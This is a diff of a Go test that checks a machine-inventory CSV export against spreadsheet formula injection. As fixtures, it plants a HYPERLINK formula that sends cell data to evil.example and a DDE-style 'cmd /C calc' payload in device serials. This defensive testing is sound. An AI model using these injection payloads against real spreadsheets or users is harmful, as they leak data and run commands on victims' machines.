@@ -86,54 +86,47 @@ func TestClientTextStoredClean(t *testing.T) {
 	}
 }
 
-// No cell of the export begins with a formula character, and the export
-// still imports back to the same fields: a manifest value that begins
-// with one (or with a quote and one) survives the round trip.
+// No cell of the export begins with a formula character: neither the
+// manifest's (TestExportRoundTrip reads those back) nor what a machine
+// reported (an SMBIOS serial, a failure message).
 func TestExportNeutralisesFormulas(t *testing.T) {
-	src := openTestStore(t)
-	mustProfile(t, src, "edge")
+	s := openTestStore(t)
+	mustProfile(t, s, "edge")
 	const a, b = "aa:bb:cc:00:00:01", "aa:bb:cc:00:00:02"
-	mustHost(t, src, Host{MAC: a, Profile: "edge", Serial: `=HYPERLINK("http://evil.example/?d="&A1,"open")`})
+	mustHost(t, s, Host{MAC: a, Profile: "edge", Serial: "-7731-A"})
 	h := Host{MAC: b, Profile: "edge", Serial: "'=quoted by its maker"}
 	h.Site.Tags = map[string]string{"-rack": "@r1"}
-	mustHost(t, src, h)
-	_, tok, err := src.BeginInstallSeen(b, "10.0.0.2", Facts{Serial: "+1+cmd|' /C calc'!A0"})
+	mustHost(t, s, h)
+	if _, err := s.Seen(a, "10.0.0.1", Facts{Serial: `=HYPERLINK("http://evil.example/?d="&A1,"open")`}); err != nil {
+		t.Fatal(err)
+	}
+	_, tok, err := s.BeginInstallSeen(b, "10.0.0.2", Facts{Serial: "+1+cmd|' /C calc'!A0"})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, _, err := src.Fail(tok, "-2+3"); err != nil {
+	if _, _, err := s.Fail(tok, "@SUM(1)"); err != nil {
 		t.Fatal(err)
 	}
-	hosts := mustHosts(t, src)
 	var buf bytes.Buffer
-	if err := WriteExportCSV(&buf, Report(hosts, nil, time.Now()), true); err != nil {
+	if err := WriteExportCSV(&buf, Report(mustHosts(t, s), nil, time.Now()), true); err != nil {
 		t.Fatal(err)
 	}
 	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
+	planted := 0
 	for i, rec := range recs {
 		for j, c := range rec {
 			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
 				t.Errorf("row %d column %s: cell %q begins with a formula character", i, recs[0][j], c)
 			}
-		}
-	}
-	dst := openTestStore(t)
-	mustProfile(t, dst, "edge")
-	if _, err := dst.ImportParsed(ParseCSV(bytes.NewReader(buf.Bytes()))); err != nil {
-		t.Fatalf("import of the export: %v\n%s", err, buf.String())
-	}
-	for _, w := range hosts {
-		got, err := dst.Host(w.MAC)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, f := range Fields {
-			if f.Get(&got) != f.Get(&w) {
-				t.Errorf("host %s field %s: %q after the round trip, want %q", w.MAC, f.Name, f.Get(&got), f.Get(&w))
+			if strings.HasPrefix(c, "'") {
+				planted++
 			}
 		}
+	}
+	if planted != 6 {
+		t.Errorf("%d cells behind a quote, want 6:\n%s", planted, buf.String())
 	}
 }
